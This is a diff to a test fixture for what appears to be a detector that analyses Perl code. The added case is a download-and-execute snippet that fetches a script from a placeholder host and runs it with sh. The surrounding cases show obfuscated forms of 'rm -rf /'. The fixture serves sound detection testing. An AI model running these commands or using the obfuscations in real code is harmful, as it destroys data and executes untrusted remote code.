@@ -50,6 +50,15 @@ RUNS: list[tuple[str, list[Fact]]] = [
     ('system(pack("H*", "726d202d7266202f"))', [("shell", "rm -rf /")]),
     ('my $c = join("", map { chr } (114, 109)); system($c . " -rf /")', [("shell", "rm -rf /")]),
     ('system scalar reverse "/ fr- mr"', [("shell", "rm -rf /")]),
+    (
+        'use LWP::Simple; getstore("http://h/x", "x.sh"); system("sh x.sh")',
+        [
+            ("fetch", "http://h/x"),
+            ("write", "x.sh", "downloaded"),
+            ("run_download", "http://h/x"),
+            ("shell", "sh x.sh"),
+        ],
+    ),
     ('my %h = (a => "rm"); system("$h{a} -rf x")', [("shell", "rm -rf x")]),
     ('my $f = "sys" . "tem"; &$f("rm -rf /"); $f->("ls")', [("shell", "rm -rf /"), ("shell", "ls")]),
     ('my $c = $x ? "rm -rf /" : "ls"; system $c', [("shell", "rm -rf /"), ("shell", "ls")]),
